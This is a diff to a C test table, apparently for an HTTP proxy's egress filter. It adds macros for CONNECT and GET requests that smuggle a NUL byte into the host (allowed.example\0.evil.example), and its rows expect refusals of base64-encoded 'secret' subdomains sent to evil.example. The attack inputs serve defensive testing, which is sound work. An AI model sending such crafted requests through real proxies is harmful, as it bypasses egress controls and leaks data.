@@ -20,6 +20,9 @@
 #define POST "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n"
 #define LABEL_63 "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffff123"
 
+#define NUL_TUNNEL "CONNECT allowed.example\0.evil.example:443 HTTP/1.1\r\nHost: x.example\r\n\r\n"
+#define NUL_GET "GET http://allowed.example\0.evil.example/ HTTP/1.1\r\nHost: x.example\r\n\r\n"
+
 static gboolean has_held[N_ATTACKS + 1];
 
 /* A request that must be refused, nothing dialled. */
@@ -38,10 +41,8 @@ static const Row rows[] = {
   { 17, TUNNEL ("c2VjcmV0.evil.example"), 403, "default" },
   { 18, TUNNEL ("c2VjcmV0.allowed.example"), 403, "default" },
   { 18, GET ("http://c2VjcmV0.allowed.example/", "c2VjcmV0.allowed.example"), 403, "default" },
-  { 20, "CONNECT allowed.example\0.evil.example:443 HTTP/1.1\r\nHost: x.example\r\n\r\n", 400,
-    "filter", 75 },
-  { 20, "GET http://allowed.example\0.evil.example/ HTTP/1.1\r\nHost: x.example\r\n\r\n", 400,
-    "filter", 74 },
+  { 20, NUL_TUNNEL, 400, "filter", sizeof (NUL_TUNNEL) - 1 },
+  { 20, NUL_GET, 400, "filter", sizeof (NUL_GET) - 1 },
   { 21, CONNECT ("allowed.example%00.evil.example:443"), 400, "policy" },
   { 21, GET ("http://allowed.example%00.evil.example/", "allowed.example"), 400, "policy" },
   { 22, TUNNEL ("evil.example."), 403, "default" },
